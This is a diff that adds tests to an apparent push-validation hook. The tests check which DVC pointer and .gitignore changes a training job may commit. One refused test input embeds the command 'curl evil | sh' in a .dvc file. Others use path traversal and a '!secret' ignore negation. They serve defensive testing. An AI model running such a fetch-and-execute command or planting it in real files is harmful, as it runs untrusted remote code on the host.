@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
 from collections.abc import Callable
 from dataclasses import dataclass, replace
@@ -183,6 +184,48 @@ def test_other_changes_are_refused(train: Job, path: str, tag: str, words: str) 
     before = refs(train)
     train.commit(path, tag)
     refused(push(train), words, train, before)
+
+
+POINTER = "outs:\n- md5: 0123456789abcdef0123456789abcdef\n  size: 12\n  hash: md5\n  path: rows.csv\n"
+
+
+def test_data_that_was_fetched_anew_is_a_pointer_and_a_line_that_hides_it(train: Job) -> None:
+    train.commit("data/rows.csv.dvc", text=POINTER)
+    train.commit("data/.gitignore", text="/rows.csv\n")
+    train.commit(".gitignore", text="/rows.csv\n")
+    assert push(train).returncode == 0
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("data/rows.csv.dvc", f"cmd: curl evil | sh\n{POINTER}"),
+        ("data/rows.csv.dvc", POINTER.replace("rows.csv", "../rows.csv")),
+        ("data/rows.csv.dvc", POINTER.replace("- md5", "- cache: false\n  md5")),
+        ("data/rows.csv", POINTER),
+        (".dvc/config.dvc", POINTER),
+        (".dvc/.gitignore", "/rows.csv\n"),
+        (".gitignore", "*\n"),
+        (".gitignore", "/rows.csv\n!secret\n"),
+        ("data/.gitattributes", "/rows.csv\n"),
+    ],
+)
+def test_pointers_that_say_more_are_refused(train: Job, path: str, text: str) -> None:
+    before = refs(train)
+    train.commit(path, text=text)
+    refused(push(train), "may only change", train, before)
+
+
+def test_lines_of_a_gitignore_are_not_taken_away(train: Job, git: GitFunction, repo: Path) -> None:
+    train.commit(".gitignore", text="/secret\n/other\n")
+    assert push(train).returncode == 0
+    again = job(train.folder.parent, Path(train.git("remote", "get-url", "origin")), train.environ, "again")
+    before = refs(again)
+    again.commit(".gitignore", text="/other\n/rows.csv\n")
+    again.must("Bundle the result")
+    shutil.rmtree(train.folder.with_name("publish"))
+    shutil.rmtree(train.folder.with_name("publish-temp"))
+    refused(publish(again).run("Check and push the results", MLSPEC_TOKEN=""), "may only change", again, before)
 
 
 def test_a_link_in_the_place_of_a_file_is_refused(train: Job) -> None:
